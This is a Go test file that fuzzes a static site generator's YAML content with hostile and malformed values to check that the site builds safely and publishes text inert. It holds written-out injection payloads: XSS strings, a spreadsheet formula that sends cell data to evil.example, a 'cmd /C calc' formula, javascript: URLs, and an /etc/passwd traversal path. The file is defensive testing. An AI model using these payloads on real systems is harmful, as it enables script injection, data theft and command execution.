package hostile

import (
	"bytes"
	"fmt"
	"maps"
	"os"
	"path"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"go.yaml.in/yaml/v3"
)

// A document is a file of the full site that holds YAML, in parts: what stands before
// it, its nodes, what stands after.
type document struct {
	name string
	root yaml.Node
	body string
}

// documents are those of the full site.
func documents(t testing.TB) []*document {
	t.Helper()
	var list []*document
	site := full(t)
	for _, name := range slices.Sorted(maps.Keys(site)) {
		if ext := path.Ext(name); ext != ".md" && ext != ".yaml" {
			continue
		}
		d := &document{name: name}
		front := string(site[name].Data)
		if path.Ext(name) == ".md" {
			var ok bool
			if front, d.body, ok = strings.Cut(strings.TrimPrefix(front, "---\n"), "---\n"); !ok {
				t.Fatalf("%s has no front matter", name)
			}
		}
		if err := yaml.Unmarshal([]byte(front), &d.root); err != nil {
			t.Fatal(err)
		}
		list = append(list, d)
	}
	return list
}

// bytes writes the document again.
func (d *document) bytes(t testing.TB) []byte {
	t.Helper()
	front, err := yaml.Marshal(&d.root)
	if err != nil {
		t.Fatal(err)
	}
	if path.Ext(d.name) == ".md" {
		return []byte("---\n" + string(front) + "---\n" + d.body)
	}
	return front
}

// value is one place of a document where something stands.
type value struct {
	path string // practices/hn-agua.es.md sources.0.title.es
	node *yaml.Node
	doc  *document
}

// values are all of a document: maps, lists, and what is in them.
func (d *document) values() []value {
	var list []value
	var walk func(at string, n *yaml.Node)
	walk = func(at string, n *yaml.Node) {
		list = append(list, value{strings.TrimPrefix(d.name, "content/") + " " + at, n, d})
		switch n.Kind {
		case yaml.MappingNode:
			for i := 0; i+1 < len(n.Content); i += 2 {
				walk(strings.TrimPrefix(at+"."+n.Content[i].Value, "."), n.Content[i+1])
			}
		case yaml.SequenceNode:
			for i, item := range n.Content {
				walk(strings.TrimPrefix(fmt.Sprintf("%s.%d", at, i), "."), item)
			}
		}
	}
	walk("", d.root.Content[0])
	return list
}

func text(s string) yaml.Node {
	return yaml.Node{Kind: yaml.ScalarNode, Tag: "!!str", Style: yaml.DoubleQuotedStyle, Value: s}
}

func plain(s string) yaml.Node { return yaml.Node{Kind: yaml.ScalarNode, Value: s} }

// payload is a text that breaks out of whatever it is put into without being written
// for it: an element, an attribute in either kind of quotation marks, a script, a
// comment, CDATA, a string of JavaScript, a template, an address.
const payload = `</script></title></style></textarea><script>alert(1)</script><img src=x onerror=alert(1)>" onmouseover="alert(1)" ' onfocus='alert(1)' autofocus --> <!-- ]]> <![CDATA[ &lt;b&gt; &#x3c;i> \x3c \u003c \" ${x} {{.Site}} {{template "x"}} ` + "`\u2028\u2029"

// wrong is what is put where something else belongs.
var wrong = []struct {
	name string
	node yaml.Node
}{
	{"payload", text(payload)},
	{"formula", text(`=HYPERLINK("http://evil.example/?x="&A1,"click")`)},
	{"another formula", text("\t+cmd|' /C calc'!A0")},
	{"script as an address", text("javascript:alert(1)//https://example.org/")},
	{"nothing", yaml.Node{Kind: yaml.ScalarNode, Tag: "!!null"}},
	{"empty", text("")},
	{"blanks", text(" \u00a0\u200b ")},
	{"a number", plain("99999999999999999999999999")},
	{"a negative number", plain("-1")},
	{"true", plain("true")},
	{"a date", plain("0000-00-00")},
	{"an endless date", plain("999999999-12-31")},
	{"an empty list", yaml.Node{Kind: yaml.SequenceNode, Style: yaml.FlowStyle}},
	{"a list of lists", yaml.Node{Kind: yaml.SequenceNode, Style: yaml.FlowStyle, Content: []*yaml.Node{{Kind: yaml.SequenceNode, Style: yaml.FlowStyle}}}},
	{"an empty map", yaml.Node{Kind: yaml.MappingNode, Style: yaml.FlowStyle}},
	{"a path out", text("../../../../etc/passwd")},
	{"signs of a terminal", text("\x1b[2J\x07\x08\u202e")},
	{"huge", text(strings.Repeat("agua ", 60000))},
	{"a huge list", hugeList()},
}

func hugeList() yaml.Node {
	n := yaml.Node{Kind: yaml.SequenceNode, Style: yaml.FlowStyle}
	x := text("x")
	for range 3000 {
		n.Content = append(n.Content, &x)
	}
	return n
}

// Every value of every kind and vocabulary meets every wrong thing. Since all faults are
// told in one run, a third of the values gives way at once, each to another thing.
func TestEveryValue(t *testing.T) {
	const parts = 3
	inputs := 0
	for j := range wrong {
		for part := range parts {
			t.Run(fmt.Sprintf("%s and others, %d", wrong[j].name, part), func(t *testing.T) {
				t.Parallel()
				site := full(t)
				n := 0
				for _, d := range documents(t) {
					if d.name == "content/site.yaml" {
						continue // without which nothing else would be looked at
					}
					for _, v := range d.values()[1:] {
						if n++; n%parts == part {
							*v.node = wrong[(n/parts+j)%len(wrong)].node
						}
					}
					site[d.name] = &fstest.MapFile{Data: d.bytes(t), Mode: 0o644}
				}
				build(t, layOut(t, site), either)
			})
		}
	}
	for _, d := range documents(t) {
		inputs += len(d.values()[1:]) * len(wrong)
	}
	t.Logf("%d inputs", inputs)
}

// What stops all else is tried alone: the settings of the site, and what each file is
// as a whole.
func TestEverySettingAndFile(t *testing.T) {
	inputs := 0
	for _, d := range documents(t) {
		values := d.values()
		if d.name != "content/site.yaml" {
			values = values[:1]
		}
		for i, v := range values {
			for j, w := range wrong {
				// Of the settings, a third with each; of the files, what is of another kind.
				if i > 0 && (i+j)%3 > 0 || i == 0 && !slices.Contains([]string{"payload", "nothing", "a number", "an empty list", "an empty map"}, w.name) {
					continue
				}
				inputs++
				t.Run(v.path+": "+w.name, func(t *testing.T) {
					t.Parallel()
					for _, d := range documents(t) {
						if d.name == v.doc.name {
							*d.values()[i].node = w.node
							site := full(t)
							site[d.name] = &fstest.MapFile{Data: d.bytes(t), Mode: 0o644}
							build(t, layOut(t, site), either)
						}
					}
				})
			}
		}
	}
	t.Logf("%d inputs", inputs)
}

// free are the values in which any text may stand.
var free = regexp.MustCompile(`(?:^| |\.)(?:title|label|summary|name|short_name|overline|description|definition|note|about|printed_label|publisher|scope|actors|partners|legal|edited_by|highlights\.\d\.(?:value|label|year)|(?:printed_)?questions\.\w+|demonym\.\w+|search_\w+)(?:\.(?:es|en|\d))*$|^taxonomies/glossary.yaml \d\.(?:es|en)\.\d$`)

// unseen are those of them that go into the words of the index alone, or nowhere yet; of a withdrawn
// entry nothing is published but its title and why, and a logo stands where a short name would.
var unseen = regexp.MustCompile(`site\.yaml short_name|demonym|search_|memberships\.yaml \d\.sources|co-retirada\.es\.md (?:summary|actors|sources)`)

// Texts that are texts wherever they stand, and so have to be published.
var texts = []struct{ name, text string }{
	{"what breaks out", payload},
	{"a formula", `=HYPERLINK("http://evil.example/?x="&A1,"click")`},
	{"a formula behind a tab", "\t+cmd|' /C calc'!A0"},
	{"a formula behind a blank", " \u00a0@SUM(1)"},
	{"a formula behind a semicolon", ";=1+1"},
	{"a formula behind a semicolon and a mark", "a; \"@SUM(1)\""},
	{"a formula of another width", "＝1+1"},
	{"Markdown", "[x](javascript:alert(1)) ![x](//evil.example/x.png) [[nada]] [^nada] **x** `x` | x | <b>"},
	{"signs alone", "\"'<>&;:|{}[]()*_~`#"},
	{"a word without an end", strings.Repeat("a", 20000)},
	{"from right to left", "\u0627\u0644\u0645\u0627\u0621 \u05de\u05d9\u05dd"},
	{"signs beyond the first plane", "𝔸𝕘𝕦𝕒 👩‍👩‍👧‍👦 🇭🇳"},
}

// Each of them in every free text at once, with a mark of its own: the site is built, is
// inert, and shows each mark, so that no text is harmless only because it is not there.
func TestEveryFreeText(t *testing.T) {
	for _, x := range texts {
		t.Run(x.name, func(t *testing.T) {
			t.Parallel()
			site := full(t)
			marks := map[string]string{}
			for _, d := range documents(t) {
				for i, v := range d.values() {
					if v.node.Kind == yaml.ScalarNode && free.MatchString(v.path) {
						mark := fmt.Sprintf("mark%dof%d", i, len(marks))
						marks[mark] = v.path
						*v.node = text(x.text + " " + mark)
					}
				}
				site[d.name] = &fstest.MapFile{Data: d.bytes(t), Mode: 0o644}
			}
			if len(marks) < 60 {
				t.Fatalf("%d texts only", len(marks))
			}
			dir := layOut(t, site)
			tree := build(t, dir, published)
			var all bytes.Buffer
			for p, data := range tree {
				if p != "manifest.json" {
					all.Write(data)
				}
			}
			for mark, at := range marks {
				if tree != nil && !unseen.MatchString(at) && !bytes.Contains(all.Bytes(), []byte(mark)) {
					t.Errorf("%s is nowhere", at)
				}
			}
			if tree != nil && x.text == payload {
				for _, format := range formats {
					checkCopy(t, dir, format)
				}
			}
		})
	}
}

// The full site has every key that docs/content.md tells of, so that none is left out
// of these tests.
func TestTheFullSiteHasEveryKey(t *testing.T) {
	guide, err := os.ReadFile("../../../docs/content.md")
	if err != nil {
		t.Fatal(err)
	}
	used := map[string]bool{}
	for _, d := range documents(t) {
		for _, v := range d.values() {
			for i := 0; v.node.Kind == yaml.MappingNode && i < len(v.node.Content); i += 2 {
				used[v.node.Content[i].Value] = true
			}
		}
	}
	// A key stands first in a row of a table, or in "key: value".
	keys := regexp.MustCompile("(?m)^\\| `(?:\\w+\\.)*(\\w+)`|^  ?-? *(\\w+):|`(\\w+)` \\(").FindAllStringSubmatch(string(guide), -1)
	if len(keys) < 40 {
		t.Fatalf("%d keys only are found in the guide", len(keys))
	}
	for _, m := range keys {
		if key := m[1] + m[2] + m[3]; key != "yaml" && !used[key] { // the end of a file's name
			t.Errorf("testdata/full.txtar does not use %q", key)
		}
	}
}
